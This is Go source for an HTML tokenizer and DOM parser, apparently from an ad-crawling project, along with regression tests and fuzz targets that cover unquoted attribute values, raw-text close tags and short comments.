	return z.nextText()
}

// nextText scans a text run up to the next '<' or end of input.
func (z *Tokenizer) nextText() Token {
	start := z.pos
	for z.pos < len(z.src) && z.src[z.pos] != '<' {
		z.pos++
	}
	return Token{Type: TextToken, Text: unescape(z.src[start:z.pos])}
}

// nextRawText scans the contents of a raw-text element (e.g. script) up to
// its closing tag, returning the content as a TextToken. The closing tag is
// emitted by a subsequent call.
func (z *Tokenizer) nextRawText() Token {
	closing := rawCloseTag[z.rawTag]
	idx := findRawClose(z.src[z.pos:], closing)
	if idx < 0 {
		// Unterminated raw text: consume the rest of the input.
		text := z.src[z.pos:]
		z.pos = len(z.src)
		z.rawTag = ""
		return Token{Type: TextToken, Text: text}
	}
	if idx == 0 {
		// At the closing tag now: emit it.
		z.rawTag = ""
		return z.nextTag()
	}
	text := z.src[z.pos : z.pos+idx]
	z.pos += idx
	z.rawTag = ""
	return Token{Type: TextToken, Text: text}
}

// nextTag scans a tag, comment, or doctype beginning at '<'.
func (z *Tokenizer) nextTag() Token {
	// Invariants: z.src[z.pos] == '<'.
	if strings.HasPrefix(z.src[z.pos:], "<!--") {
		return z.nextComment()
	}
	if len(z.src) > z.pos+1 && (z.src[z.pos+1] == '!' || z.src[z.pos+1] == '?') {
		return z.nextDeclaration()
	}
	end := false
	p := z.pos + 1
	if p < len(z.src) && z.src[p] == '/' {
		end = true
		p++
	}
	nameStart := p
	for p < len(z.src) && isTagNameByte(z.src[p]) {
		p++
	}
	if p == nameStart {
		// "<" not followed by a tag name: treat the '<' as literal text.
		z.pos++
		return Token{Type: TextToken, Text: "<"}
	}
	tag := lowerASCII(z.src[nameStart:p])

	tok := Token{Tag: tag}
	if end {
		tok.Type = EndTagToken
		// Skip to '>'.
		for p < len(z.src) && z.src[p] != '>' {
			p++
		}
		if p < len(z.src) {
			p++
		}
		z.pos = p
		return tok
	}

	tok.Type = StartTagToken
	// Parse attributes into the reusable scratch; Token.Attrs aliases it.
	z.attrs = z.attrs[:0]
	for {
		p = skipSpace(z.src, p)
		if p >= len(z.src) {
			break
		}
		if z.src[p] == '>' {
			p++
			break
		}
		if z.src[p] == '/' {
			p++
			p = skipSpace(z.src, p)
			if p < len(z.src) && z.src[p] == '>' {
				p++
				tok.Type = SelfClosingTagToken
			}
			break
		}
		var attr Attr
		attr, p = parseAttr(z.src, p)
		if attr.Name != "" {
			z.attrs = append(z.attrs, attr)
		} else {
			// Could not make progress on a malformed byte; skip it so the
			// tokenizer always terminates.
			p++
		}
	}
	if len(z.attrs) > 0 {
		tok.Attrs = z.attrs
	}
	z.pos = p
	if tok.Type == StartTagToken && rawTextTags[tag] {
		z.rawTag = tag
	}
	return tok
}

// findRawClose returns the offset in s of the first occurrence of closing
// ("</tag") that really is a close tag: the matched name must be followed by
// whitespace, '/', '>', or end of input, so that "</scripty>" inside a
// script element does not terminate it. Returns -1 if none exists.
func findRawClose(s, closing string) int {
	off := 0
	for {
		idx := indexFold(s[off:], closing)
		if idx < 0 {
			return -1
		}
		after := off + idx + len(closing)
		if after >= len(s) {
			return off + idx
		}
		if c := s[after]; isSpaceByte(c) || c == '/' || c == '>' {
			return off + idx
		}
		off += idx + 1
	}
}

// nextComment scans "<!-- ... -->".
func (z *Tokenizer) nextComment() Token {
	start := z.pos + 4
	// "<!-->" and "<!--->" are complete comments with an empty body (the
	// spec's "abrupt closing of empty comment"); searching past them would
	// swallow following page text into the comment.
	rest := z.src[start:]
	if strings.HasPrefix(rest, ">") {
		z.pos = start + 1
		return Token{Type: CommentToken, Text: ""}
	}
	if strings.HasPrefix(rest, "->") {
		z.pos = start + 2
		return Token{Type: CommentToken, Text: ""}
	}
	idx := strings.Index(z.src[start:], "-->")
	if idx < 0 {
		text := z.src[start:]
		z.pos = len(z.src)
		return Token{Type: CommentToken, Text: text}
	}
	text := z.src[start : start+idx]
	z.pos = start + idx + 3
	return Token{Type: CommentToken, Text: text}
}

// nextDeclaration scans "<!DOCTYPE ...>" and similar "<!...>" or "<?...>".
func (z *Tokenizer) nextDeclaration() Token {
	end := strings.IndexByte(z.src[z.pos:], '>')
	var body string
	if end < 0 {
		body = z.src[z.pos:]
		z.pos = len(z.src)
	} else {
		body = z.src[z.pos : z.pos+end+1]
		z.pos += end + 1
	}
	return Token{Type: DoctypeToken, Text: body}
}

// parseAttr parses one attribute starting at p, returning it and the
// position after it. On malformed input it returns a zero Attr and p
// unchanged.
func parseAttr(src string, p int) (Attr, int) {
	nameStart := p
	for p < len(src) && isAttrNameByte(src[p]) {
		p++
	}
	if p == nameStart {
		return Attr{}, p
	}
	name := lowerASCII(src[nameStart:p])
	p = skipSpace(src, p)
	if p >= len(src) || src[p] != '=' {
		return Attr{Name: name}, p // boolean attribute, e.g. <iframe sandbox>
	}
	p++ // consume '='
	p = skipSpace(src, p)
	if p >= len(src) {
		return Attr{Name: name}, p
	}
	var value string
	switch src[p] {
	case '"', '\'':
		quote := src[p]
		p++
		valStart := p
		for p < len(src) && src[p] != quote {
			p++
		}
		value = src[valStart:p]
		if p < len(src) {
			p++ // closing quote
		}
	default:
		// Unquoted values end only at whitespace or '>' (HTML5 §13.2.5.37);
		// '/' is an ordinary value byte, so src=http://ads.example.com/slot1
		// keeps its full URL.
		valStart := p
		for p < len(src) && !isSpaceByte(src[p]) && src[p] != '>' {
			p++
		}
		value = src[valStart:p]
	}
	return Attr{Name: name, Value: unescape(value)}, p
}

// lowerASCII lowercases s, returning s itself (no allocation) when it is
// already lowercase ASCII — the overwhelmingly common case for tag and
// attribute names in real markup. Uppercase or non-ASCII bytes defer to
// strings.ToLower so behaviour matches the pre-fast-path code exactly.
func lowerASCII(s string) string {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c >= 'A' && c <= 'Z' || c >= 0x80 {
			return strings.ToLower(s)
		}
	}
	return s
}

func isTagNameByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-'
}

func isAttrNameByte(c byte) bool {
	return !isSpaceByte(c) && c != '=' && c != '>' && c != '/' && c != '"' && c != '\''
}

func isSpaceByte(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f'
}

func skipSpace(src string, p int) int {
	for p < len(src) && isSpaceByte(src[p]) {
		p++
	}
	return p
}

// indexFold is a case-insensitive strings.Index limited to ASCII, which is
// all HTML tag names can contain.
func indexFold(s, substr string) int {
	n := len(substr)
	if n == 0 {
		return 0
	}
	for i := 0; i+n <= len(s); i++ {
		if equalFoldASCII(s[i:i+n], substr) {
			return i
		}
	}
	return -1
}

func equalFoldASCII(a, b string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := 0; i < len(a); i++ {
		ca, cb := a[i], b[i]
		if 'A' <= ca && ca <= 'Z' {
			ca += 'a' - 'A'
		}
		if 'A' <= cb && cb <= 'Z' {
			cb += 'a' - 'A'
		}
		if ca != cb {
			return false
		}
	}
	return true
}

// entity replacements handled by unescape. Ad markup in the wild uses only a
// handful of named entities; numeric references are also supported.
var entities = map[string]string{
	"amp":  "&",
	"lt":   "<",
	"gt":   ">",
	"quot": `"`,
	"apos": "'",
	"nbsp": " ",
}

// unescape resolves HTML character references in s. Unknown or malformed
// references are left intact, matching browser leniency.
func unescape(s string) string {
	if !strings.ContainsRune(s, '&') {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		c := s[i]
		if c != '&' {
			b.WriteByte(c)
			i++
			continue
		}
		semi := strings.IndexByte(s[i:], ';')
		if semi < 0 || semi > 10 {
			b.WriteByte(c)
			i++
			continue
		}
		ref := s[i+1 : i+semi]
		if rep, ok := entities[ref]; ok {
			b.WriteString(rep)
			i += semi + 1
			continue
		}
		if strings.HasPrefix(ref, "#") {
			if r, ok := parseNumericRef(ref[1:]); ok {
				b.WriteRune(r)
				i += semi + 1
				continue
			}
		}
		b.WriteByte(c)
		i++
	}
	return b.String()
}

func parseNumericRef(s string) (rune, bool) {
	if s == "" {
		return 0, false
	}
	base := 10
	if s[0] == 'x' || s[0] == 'X' {
		base = 16
		s = s[1:]
		if s == "" {
			return 0, false
		}
	}
	var n int64
	for i := 0; i < len(s); i++ {
		var d int64
		c := s[i]
		switch {
		case c >= '0' && c <= '9':
			d = int64(c - '0')
		case base == 16 && c >= 'a' && c <= 'f':
			d = int64(c-'a') + 10
		case base == 16 && c >= 'A' && c <= 'F':
			d = int64(c-'A') + 10
		default:
			return 0, false
		}
		n = n*int64(base) + d
		if n > 0x10FFFF {
			return 0, false
		}
	}
	return rune(n), true
}
