package htmlparse

import (
	"fmt"
	"strings"
)

// NodeType identifies the kind of a DOM Node.
type NodeType int

// Node types.
const (
	DocumentNode NodeType = iota
	ElementNode
	TextNode
	CommentNode
)

// Node is a node in the parsed DOM tree.
type Node struct {
	Type     NodeType
	Tag      string // element tag name, lowercase
	Attrs    []Attr
	Text     string // text or comment content
	Parent   *Node
	Children []*Node
}

// voidTags are HTML elements that never have children or end tags.
var voidTags = map[string]bool{
	"area": true, "base": true, "br": true, "col": true, "embed": true,
	"hr": true, "img": true, "input": true, "link": true, "meta": true,
	"param": true, "source": true, "track": true, "wbr": true,
}

// Parse builds a DOM tree from HTML source. It never fails: malformed
// markup degrades gracefully the way browsers degrade (unmatched end tags
// are dropped, unclosed elements are closed at end of input).
func Parse(src string) *Node {
	doc := &Node{Type: DocumentNode}
	stack := []*Node{doc}
	z := NewTokenizer(src)
	for {
		tok := z.Next()
		if tok.Type == ErrorToken {
			break
		}
		top := stack[len(stack)-1]
		switch tok.Type {
		case TextToken:
			// Skip whitespace-only text nodes between elements: they carry
			// no meaning for the crawler and bloat trees.
			if strings.TrimSpace(tok.Text) == "" {
				continue
			}
			top.appendChild(&Node{Type: TextNode, Text: tok.Text})
		case CommentToken:
			top.appendChild(&Node{Type: CommentNode, Text: tok.Text})
		case DoctypeToken:
			// Doctypes are ignored in the tree.
		case SelfClosingTagToken:
			top.appendChild(&Node{Type: ElementNode, Tag: tok.Tag, Attrs: tok.Attrs})
		case StartTagToken:
			n := &Node{Type: ElementNode, Tag: tok.Tag, Attrs: tok.Attrs}
			top.appendChild(n)
			if !voidTags[tok.Tag] {
				stack = append(stack, n)
			}
		case EndTagToken:
			// Pop to the matching open element if one exists; otherwise
			// ignore the stray end tag.
			for i := len(stack) - 1; i >= 1; i-- {
				if stack[i].Tag == tok.Tag {
					stack = stack[:i]
					break
				}
			}
		}
	}
	return doc
}

func (n *Node) appendChild(c *Node) {
	c.Parent = n
	n.Children = append(n.Children, c)
}

// Attr returns the value of the named attribute and whether it is present.
func (n *Node) Attr(name string) (string, bool) {
	for _, a := range n.Attrs {
		if a.Name == name {
			return a.Value, true
		}
	}
	return "", false
}

// AttrOr returns the named attribute's value or def when absent.
func (n *Node) AttrOr(name, def string) string {
	if v, ok := n.Attr(name); ok {
		return v
	}
	return def
}

// HasAttr reports whether the named attribute is present (even if empty,
// as with the boolean iframe sandbox attribute the paper's §4.4 looks for).
func (n *Node) HasAttr(name string) bool {
	_, ok := n.Attr(name)
	return ok
}

// SetAttr sets (or replaces) the named attribute.
func (n *Node) SetAttr(name, value string) {
	for i, a := range n.Attrs {
		if a.Name == name {
			n.Attrs[i].Value = value
			return
		}
	}
	n.Attrs = append(n.Attrs, Attr{Name: name, Value: value})
}

// Find returns all descendant elements (depth-first, document order) with
// the given tag name. Tag is matched case-insensitively.
func (n *Node) Find(tag string) []*Node {
	tag = strings.ToLower(tag)
	var out []*Node
	n.Walk(func(c *Node) bool {
		if c.Type == ElementNode && c.Tag == tag {
			out = append(out, c)
		}
		return true
	})
	return out
}

// FindFirst returns the first descendant element with the tag, or nil.
func (n *Node) FindFirst(tag string) *Node {
	tag = strings.ToLower(tag)
	var found *Node
	n.Walk(func(c *Node) bool {
		if found == nil && c.Type == ElementNode && c.Tag == tag {
			found = c
			return false
		}
		return found == nil
	})
	return found
}

// Walk visits every node in the subtree rooted at n (excluding n itself) in
// document order. The visitor returns false to prune a subtree.
func (n *Node) Walk(visit func(*Node) bool) {
	for _, c := range n.Children {
		if visit(c) {
			c.Walk(visit)
		}
	}
}

// InnerText concatenates all descendant text nodes.
func (n *Node) InnerText() string {
	var b strings.Builder
	n.Walk(func(c *Node) bool {
		if c.Type == TextNode {
			b.WriteString(c.Text)
		}
		return true
	})
	if n.Type == TextNode {
		b.WriteString(n.Text)
	}
	return b.String()
}

// Render serializes the subtree back to HTML. Attribute values are quoted
// and escaped; raw-text element contents are emitted verbatim.
func (n *Node) Render() string {
	var b strings.Builder
	n.render(&b)
	return b.String()
}

func (n *Node) render(b *strings.Builder) {
	switch n.Type {
	case DocumentNode:
		for _, c := range n.Children {
			c.render(b)
		}
	case TextNode:
		if n.Parent != nil && rawTextTags[n.Parent.Tag] {
			b.WriteString(n.Text)
		} else {
			b.WriteString(escapeText(n.Text))
		}
	case CommentNode:
		fmt.Fprintf(b, "<!--%s-->", n.Text)
	case ElementNode:
		b.WriteByte('<')
		b.WriteString(n.Tag)
		for _, a := range n.Attrs {
			b.WriteByte(' ')
			b.WriteString(a.Name)
			b.WriteString(`="`)
			b.WriteString(escapeAttr(a.Value))
			b.WriteByte('"')
		}
		b.WriteByte('>')
		if voidTags[n.Tag] {
			return
		}
		for _, c := range n.Children {
			c.render(b)
		}
		b.WriteString("</")
		b.WriteString(n.Tag)
		b.WriteByte('>')
	}
}

func escapeText(s string) string {
	s = strings.ReplaceAll(s, "&", "&amp;")
	s = strings.ReplaceAll(s, "<", "&lt;")
	return strings.ReplaceAll(s, ">", "&gt;")
}

func escapeAttr(s string) string {
	s = strings.ReplaceAll(s, "&", "&amp;")
	return strings.ReplaceAll(s, `"`, "&quot;")
}
