package htmlparse

import (
	"fmt"
	"strings"
	"sync"
)

// NodeType identifies the kind of a DOM Node.
type NodeType int

// Node types.
const (
	DocumentNode NodeType = iota
	ElementNode
	TextNode
	CommentNode
)

// Node is a node in the parsed DOM tree.
type Node struct {
	Type     NodeType
	Tag      string // element tag name, lowercase
	Attrs    []Attr
	Text     string // text or comment content
	Parent   *Node
	Children []*Node
}

// voidTags are HTML elements that never have children or end tags.
var voidTags = map[string]bool{
	"area": true, "base": true, "br": true, "col": true, "embed": true,
	"hr": true, "img": true, "input": true, "link": true, "meta": true,
	"param": true, "source": true, "track": true, "wbr": true,
}

// parseState is the per-Parse scratch that is worth keeping warm between
// documents: the tokenizer (with its attribute scratch) and the open-element
// stack. Node and attribute storage is NOT here — it escapes into the
// returned tree and must never be pooled.
type parseState struct {
	z     Tokenizer
	stack []*Node
	// Arena tails. The chunks these point into are owned by previously
	// returned trees once full; holding the tail only lets the next Parse
	// keep filling spare capacity. They are reset, not reused across
	// documents, in release().
	nodeArena []Node
	attrArena []Attr
}

var parsePool = sync.Pool{New: func() any {
	return &parseState{stack: make([]*Node, 0, 16)}
}}

// newNode hands out tree nodes from a chunked arena: one allocation per
// nodeChunk elements instead of one per element.
const nodeChunk = 32

func (st *parseState) newNode(n Node) *Node {
	if len(st.nodeArena) == cap(st.nodeArena) {
		// Chunks grow 8 → 16 → 32: tiny documents (ad creatives are often a
		// dozen nodes) don't pay for a full chunk of waste.
		c := cap(st.nodeArena) * 2
		if c < 8 {
			c = 8
		}
		if c > nodeChunk {
			c = nodeChunk
		}
		st.nodeArena = make([]Node, 0, c)
	}
	st.nodeArena = append(st.nodeArena, n)
	return &st.nodeArena[len(st.nodeArena)-1]
}

// copyAttrs copies the tokenizer's scratch attributes into arena-backed
// storage. The returned slice is capacity-capped so a later SetAttr append
// reallocates instead of clobbering a neighbour's attributes.
func (st *parseState) copyAttrs(as []Attr) []Attr {
	if len(as) == 0 {
		return nil
	}
	if cap(st.attrArena)-len(st.attrArena) < len(as) {
		c := cap(st.attrArena) * 2
		if c < 8 {
			c = 8
		}
		if c > nodeChunk {
			c = nodeChunk
		}
		st.attrArena = make([]Attr, 0, c+len(as))
	}
	off := len(st.attrArena)
	st.attrArena = append(st.attrArena, as...)
	return st.attrArena[off:len(st.attrArena):len(st.attrArena)]
}

// release returns the scratch to the pool with every pointer cleared, so a
// pooled state never pins a parsed tree (or the source string reachable
// through it) in memory.
func (st *parseState) release() {
	clear(st.stack[:cap(st.stack)])
	st.stack = st.stack[:0]
	// Drop the arena tails entirely: their chunks belong to the returned
	// tree. Keeping them would both pin the tree and risk a future Parse
	// appending into memory the tree still reads.
	st.nodeArena = nil
	st.attrArena = nil
	st.z.Reset("")
	parsePool.Put(st)
}

// Parse builds a DOM tree from HTML source. It never fails: malformed
// markup degrades gracefully the way browsers degrade (unmatched end tags
// are dropped, unclosed elements are closed at end of input).
func Parse(src string) *Node {
	st := parsePool.Get().(*parseState)
	st.z.Reset(src)
	doc := &Node{Type: DocumentNode}
	stack := append(st.stack, doc)
	for {
		tok := st.z.Next()
		if tok.Type == ErrorToken {
			break
		}
		top := stack[len(stack)-1]
		switch tok.Type {
		case TextToken:
			// Skip whitespace-only text nodes between elements: they carry
			// no meaning for the crawler and bloat trees.
			if strings.TrimSpace(tok.Text) == "" {
				continue
			}
			top.appendChild(st.newNode(Node{Type: TextNode, Text: tok.Text}))
		case CommentToken:
			top.appendChild(st.newNode(Node{Type: CommentNode, Text: tok.Text}))
		case DoctypeToken:
			// Doctypes are ignored in the tree.
		case SelfClosingTagToken:
			top.appendChild(st.newNode(Node{Type: ElementNode, Tag: tok.Tag, Attrs: st.copyAttrs(tok.Attrs)}))
		case StartTagToken:
			n := st.newNode(Node{Type: ElementNode, Tag: tok.Tag, Attrs: st.copyAttrs(tok.Attrs)})
			top.appendChild(n)
			if !voidTags[tok.Tag] {
				stack = append(stack, n)
			}
		case EndTagToken:
			// Pop to the matching open element if one exists; otherwise
			// ignore the stray end tag.
			for i := len(stack) - 1; i >= 1; i-- {
				if stack[i].Tag == tok.Tag {
					stack = stack[:i]
					break
				}
			}
		}
	}
	st.stack = stack
	st.release()
	return doc
}

func (n *Node) appendChild(c *Node) {
	c.Parent = n
	n.Children = append(n.Children, c)
}

// Attr returns the value of the named attribute and whether it is present.
func (n *Node) Attr(name string) (string, bool) {
	for _, a := range n.Attrs {
		if a.Name == name {
			return a.Value, true
		}
	}
	return "", false
}

// AttrOr returns the named attribute's value or def when absent.
func (n *Node) AttrOr(name, def string) string {
	if v, ok := n.Attr(name); ok {
		return v
	}
	return def
}

// HasAttr reports whether the named attribute is present (even if empty,
// as with the boolean iframe sandbox attribute the paper's §4.4 looks for).
func (n *Node) HasAttr(name string) bool {
	_, ok := n.Attr(name)
	return ok
}

// SetAttr sets (or replaces) the named attribute.
func (n *Node) SetAttr(name, value string) {
	for i, a := range n.Attrs {
		if a.Name == name {
			n.Attrs[i].Value = value
			return
		}
	}
	n.Attrs = append(n.Attrs, Attr{Name: name, Value: value})
}

// Find returns all descendant elements (depth-first, document order) with
// the given tag name. Tag is matched case-insensitively.
func (n *Node) Find(tag string) []*Node {
	tag = strings.ToLower(tag)
	var out []*Node
	n.Walk(func(c *Node) bool {
		if c.Type == ElementNode && c.Tag == tag {
			out = append(out, c)
		}
		return true
	})
	return out
}

// FindFirst returns the first descendant element with the tag, or nil.
func (n *Node) FindFirst(tag string) *Node {
	tag = strings.ToLower(tag)
	var found *Node
	n.Walk(func(c *Node) bool {
		if found == nil && c.Type == ElementNode && c.Tag == tag {
			found = c
			return false
		}
		return found == nil
	})
	return found
}

// Walk visits every node in the subtree rooted at n (excluding n itself) in
// document order. The visitor returns false to prune a subtree.
func (n *Node) Walk(visit func(*Node) bool) {
	for _, c := range n.Children {
		if visit(c) {
			c.Walk(visit)
		}
	}
}

// InnerText concatenates all descendant text nodes.
func (n *Node) InnerText() string {
	var b strings.Builder
	n.Walk(func(c *Node) bool {
		if c.Type == TextNode {
			b.WriteString(c.Text)
		}
		return true
	})
	if n.Type == TextNode {
		b.WriteString(n.Text)
	}
	return b.String()
}

// Render serializes the subtree back to HTML. Attribute values are quoted
// and escaped; raw-text element contents are emitted verbatim.
func (n *Node) Render() string {
	var b strings.Builder
	n.render(&b)
	return b.String()
}

func (n *Node) render(b *strings.Builder) {
	switch n.Type {
	case DocumentNode:
		for _, c := range n.Children {
			c.render(b)
		}
	case TextNode:
		if n.Parent != nil && rawTextTags[n.Parent.Tag] {
			b.WriteString(n.Text)
		} else {
			b.WriteString(escapeText(n.Text))
		}
	case CommentNode:
		fmt.Fprintf(b, "<!--%s-->", n.Text)
	case ElementNode:
		b.WriteByte('<')
		b.WriteString(n.Tag)
		for _, a := range n.Attrs {
			b.WriteByte(' ')
			b.WriteString(a.Name)
			b.WriteString(`="`)
			b.WriteString(escapeAttr(a.Value))
			b.WriteByte('"')
		}
		b.WriteByte('>')
		if voidTags[n.Tag] {
			return
		}
		for _, c := range n.Children {
			c.render(b)
		}
		b.WriteString("</")
		b.WriteString(n.Tag)
		b.WriteByte('>')
	}
}

func escapeText(s string) string {
	s = strings.ReplaceAll(s, "&", "&amp;")
	s = strings.ReplaceAll(s, "<", "&lt;")
	return strings.ReplaceAll(s, ">", "&gt;")
}

func escapeAttr(s string) string {
	s = strings.ReplaceAll(s, "&", "&amp;")
	return strings.ReplaceAll(s, `"`, "&quot;")
}
