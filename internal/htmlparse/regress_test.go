package htmlparse

// Regression tests for the three tokenizer bugs the fuzzing harness
// (DESIGN.md §12) was built around. Each table entry fails against the
// pre-fix tokenizer.

import "testing"

// Pre-fix: unquoted attribute values stopped at '/', truncating
// src=http://ads.example.com/slot1 to "http:". Per HTML5 §13.2.5.37 an
// unquoted value ends only at whitespace or '>'.
func TestUnquotedAttrValueKeepsSlashes(t *testing.T) {
	cases := []struct {
		name, src, attr, want string
		wantType              TokenType
	}{
		{"iframe url", `<iframe src=http://ads.example.com/slot1>`, "src", "http://ads.example.com/slot1", StartTagToken},
		{"rooted path", `<img src=/banner.png>`, "src", "/banner.png", StartTagToken},
		{"interior slash", `<input value=a/b>`, "value", "a/b", StartTagToken},
		{"trailing slash eats self-close", `<a href=/>`, "href", "/", StartTagToken},
		{"space then self-close kept", `<img src=/x.png />`, "src", "/x.png", SelfClosingTagToken},
		{"next attribute after space", `<iframe src=http://a.com/b width=300>`, "width", "300", StartTagToken},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			toks := collect(tc.src)
			if len(toks) != 1 {
				t.Fatalf("got %d tokens: %v", len(toks), toks)
			}
			if toks[0].Type != tc.wantType {
				t.Errorf("token type = %v, want %v", toks[0].Type, tc.wantType)
			}
			if v, ok := toks[0].Attr(tc.attr); !ok || v != tc.want {
				t.Errorf("attr %q = %q (present=%v), want %q", tc.attr, v, ok, tc.want)
			}
		})
	}
}

// Pre-fix: any extension of the close-tag name terminated a raw-text
// element, so "</scripty>" inside a <script> ended it mid-content. The close
// name must be followed by whitespace, '/', '>', or end of input.
func TestRawTextCloseRequiresBoundary(t *testing.T) {
	cases := []struct {
		name, src, wantBody string
	}{
		{"scripty", `<script>var a = "</scripty>";</script>`, `var a = "</scripty>";`},
		{"styleish", `<style>s { } </styleX </style>`, `s { } </styleX `},
		{"space boundary", "<script>x</script >", "x"},
		{"slash boundary", "<script>x</script/>", "x"},
		{"case-folded", `<SCRIPT>y</ScRiPt>`, "y"},
		{"eof boundary", `<script>z</script`, "z"},
		{"no real close", `<script>a</scripty>b`, "a</scripty>b"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			toks := collect(tc.src)
			if len(toks) < 2 || toks[0].Type != StartTagToken {
				t.Fatalf("tokens = %v", toks)
			}
			if toks[1].Type != TextToken || toks[1].Text != tc.wantBody {
				t.Errorf("raw text body = %q, want %q", toks[1].Text, tc.wantBody)
			}
		})
	}
}

// Pre-fix: nextComment searched for "-->" starting past the '>' of "<!-->"
// and "<!--->", swallowing the following page text into the comment body.
// Both are complete, empty comments per the spec's abrupt-closing rules.
func TestShortComments(t *testing.T) {
	cases := []struct {
		name, src   string
		wantComment string
		wantAfter   string
	}{
		{"bang-dash-dash-gt", `<!-->after<div>x</div>`, "", "after"},
		{"bang-dash-dash-dash-gt", `<!--->after<div>x</div>`, "", "after"},
		{"exactly empty", `<!---->after`, "", "after"},
		{"dash body", `<!----->after`, "-", "after"},
		{"normal body", `<!--a--b-->after`, "a--b", "after"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			toks := collect(tc.src)
			if len(toks) < 2 {
				t.Fatalf("tokens = %v", toks)
			}
			if toks[0].Type != CommentToken || toks[0].Text != tc.wantComment {
				t.Errorf("comment = %+v, want body %q", toks[0], tc.wantComment)
			}
			if toks[1].Type != TextToken || toks[1].Text != tc.wantAfter {
				t.Errorf("text after comment = %+v, want %q", toks[1], tc.wantAfter)
			}
		})
	}
}

// The concrete ad-pipeline consequence of the unquoted-value bug: iframe
// extraction from unquoted ad markup saw src="http:" and dropped the frame.
func TestParseUnquotedIframeSrc(t *testing.T) {
	doc := Parse(`<html><body><iframe src=http://ads.example.com/slot1 width=300></iframe></body></html>`)
	frames := doc.Find("iframe")
	if len(frames) != 1 {
		t.Fatalf("found %d iframes", len(frames))
	}
	if src := frames[0].AttrOr("src", ""); src != "http://ads.example.com/slot1" {
		t.Fatalf("iframe src = %q", src)
	}
}
