package htmlparse

// Native fuzz targets for the HTML tokenizer and DOM builder, part of the
// repo-wide correctness harness (DESIGN.md §12). The oracles are pure
// invariants — no reference parser needed:
//
//   FuzzTokenizer: no panic, guaranteed progress/termination, well-formed
//   tokens, and ErrorToken is absorbing.
//
//   FuzzParse: no panic, parent pointers consistent, and Render∘Parse is a
//   fixed point — parsing a rendered tree and rendering again reproduces the
//   same bytes. The raw-text close-tag fix is what makes this oracle hold:
//   before it, script bodies containing "</scripty" re-parsed differently.

import (
	"strings"
	"testing"

	"madave/internal/fuzzutil"
)

// bugSeeds are the minimized inputs for the parser bugs this harness was
// built around; they replay as ordinary unit tests on every `go test` run.
var bugSeeds = []string{
	`<iframe src=http://ads.example.com/slot1>`,      // unquoted value truncated at '/'
	`<script>var a = "</scripty>";</script><p>x</p>`, // raw text closed by "</scripty>"
	`<!-->rest of the page<div>text</div>`,           // short comment swallowed the page
	`<!--->rest of the page<div>text</div>`,
	`<!---->ok`,
}

func addHTMLSeeds(f *testing.F) {
	fuzzutil.SeedStrings(f, bugSeeds...)
	fuzzutil.SeedStrings(f,
		`<html><head><title>ad</title></head><body><iframe src="http://x.com/a" sandbox></iframe></body></html>`,
		`<a href="/x?a=1&amp;b=2">&lt;link&gt;</a>`,
		`<em `, `</`, `<`, `<1>`, `&#x41;&bogus;&amp`,
		`<textarea><b>raw</b></textarea><br/><div/>`,
	)
	// Pooled-scratch stressors: Parse now draws its tokenizer (attribute
	// scratch) and node/attr arenas from a sync.Pool, so seed shapes that
	// grow the scratch far past its default and land exactly on the
	// progressive arena chunk boundaries (8/16/32) — the states a released
	// parseState must fully reset before reuse.
	manyAttrs := `<div a=1 b=2 c=3 d=4 e=5 f=6 g=7 h=8 i=9 j=10 k=11 l=12 m=13 n=14 o=15 p=16 q=17>x</div>`
	longAttr := `<img src="` + strings.Repeat("A", 4096) + `">`
	deepNest := strings.Repeat("<b>", 33) + "x" + strings.Repeat("</b>", 33)
	fuzzutil.SeedStrings(f, manyAttrs, longAttr, deepNest,
		manyAttrs+`<p>tiny</p>`, // grown scratch immediately reused on a tiny tail
		`<div `+strings.Repeat(`data-x `, 50)+`>valueless</div>`,
	)
	fuzzutil.SeedStrings(f, fuzzutil.Pages(0x51ee, 24)...)
}

func FuzzTokenizer(f *testing.F) {
	addHTMLSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<16 {
			t.Skip("oversized input")
		}
		z := NewTokenizer(src)
		// Every non-error token consumes at least one byte, so the stream is
		// bounded by len(src); the slack covers empty-comment tokens.
		limit := 2*len(src) + 64
		n := 0
		for {
			tok := z.Next()
			if tok.Type == ErrorToken {
				break
			}
			if n++; n > limit {
				t.Fatalf("tokenizer made no progress: > %d tokens for %d bytes", limit, len(src))
			}
			switch tok.Type {
			case StartTagToken, EndTagToken, SelfClosingTagToken:
				if tok.Tag == "" {
					t.Fatalf("tag token with empty name: %+v", tok)
				}
				if tok.Tag != strings.ToLower(tok.Tag) {
					t.Fatalf("tag name not lowercased: %q", tok.Tag)
				}
				for _, a := range tok.Attrs {
					if a.Name == "" {
						t.Fatalf("attribute with empty name on <%s>", tok.Tag)
					}
					if a.Name != strings.ToLower(a.Name) {
						t.Fatalf("attribute name not lowercased: %q", a.Name)
					}
				}
			}
		}
		// ErrorToken must be absorbing: once the input is exhausted the
		// tokenizer reports end-of-input forever.
		for i := 0; i < 3; i++ {
			if tok := z.Next(); tok.Type != ErrorToken {
				t.Fatalf("token after ErrorToken: %+v", tok)
			}
		}
	})
}

func FuzzParse(f *testing.F) {
	addHTMLSeeds(f)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<16 {
			t.Skip("oversized input")
		}
		doc := Parse(src)
		checkParents(t, doc)
		r1 := doc.Render()
		r2 := Parse(r1).Render()
		if r1 != r2 {
			t.Fatalf("Render∘Parse is not a fixed point:\n r1 = %q\n r2 = %q\n src = %q", r1, r2, src)
		}
	})
}

func checkParents(t *testing.T, n *Node) {
	t.Helper()
	for _, c := range n.Children {
		if c.Parent != n {
			t.Fatalf("child %v has wrong parent", c)
		}
		checkParents(t, c)
	}
}
