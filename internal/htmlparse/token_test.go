package htmlparse

import (
	"testing"
)

func collect(src string) []Token {
	z := NewTokenizer(src)
	var toks []Token
	for {
		tok := z.Next()
		if tok.Type == ErrorToken {
			return toks
		}
		// Token.Attrs aliases the tokenizer's scratch; retained tokens must
		// copy it (the documented contract).
		tok.Attrs = append([]Attr(nil), tok.Attrs...)
		toks = append(toks, tok)
	}
}

